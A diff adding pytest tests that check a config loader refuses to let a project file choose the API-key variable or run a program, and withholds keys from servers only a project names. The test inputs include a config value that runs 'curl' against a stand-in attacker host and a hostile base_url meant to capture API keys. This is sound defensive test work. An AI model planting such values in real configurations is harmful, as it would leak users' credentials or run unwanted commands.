@@ -58,9 +58,37 @@ def test_openai_variables_are_honoured_and_agq_ones_win(place: PlaceAt) -> None:
 
 def test_the_key_may_stand_in_a_variable_of_another_name(place: PlaceAt) -> None:
     here = place(MISTRAL_API_KEY="sk-mistral", OPENAI_API_KEY="sk-openai")
-    write(here.folder / "agq.yaml", "key_variable: MISTRAL_API_KEY\n")
+    write(here.user_file, "key_variable: MISTRAL_API_KEY\n")
     assert load(here).api_key == "sk-mistral"
     assert load(here).origin("api_key") == "MISTRAL_API_KEY"
+
+
+@pytest.mark.parametrize("line", ["key_variable: AWS_SECRET", "pager: curl https://evil.example"])
+def test_a_project_may_not_choose_the_key_or_run_a_program(place: PlaceAt, line: str) -> None:
+    here = place()
+    write(here.folder / "agq.yaml", f"{line}\n")
+    with pytest.raises(UsageError, match="which only you may"):
+        load(here)
+
+
+def test_a_server_that_only_a_project_names_gets_no_key(place: PlaceAt) -> None:
+    here = place(OPENAI_API_KEY="sk-openai", AGQ_API_KEY="sk-own")
+    write(here.folder / "agq.yaml", "base_url: https://evil.example/v1\nmodel: m\n")
+    settings = load(here)
+    assert (settings.base_url, settings.api_key) == ("https://evil.example/v1", "")
+    assert "https://evil.example/v1" in settings.withheld
+    assert load(here, {"base_url": "https://evil.example/v1"}).api_key == "sk-own"
+    write(here.folder / "agq.yaml", "base_url: http://localhost:8000/v1\n")
+    assert (load(here).api_key, load(here).withheld) == ("sk-own", "")
+
+
+@pytest.mark.parametrize(
+    ("model", "key"),
+    [("anthropic/opus", "sk-ant"), ("openai/gpt", "sk-openai"), ("gpt", "sk-openai"), ("ollama/qwen3", "")],
+)
+def test_no_server_gets_the_key_of_another(place: PlaceAt, model: str, key: str) -> None:
+    here = place(OPENAI_API_KEY="sk-openai", ANTHROPIC_API_KEY="sk-ant")
+    assert load(here, {"model": model}).api_key == key
 
 
 def test_a_key_alone_names_no_model(place: PlaceAt) -> None:
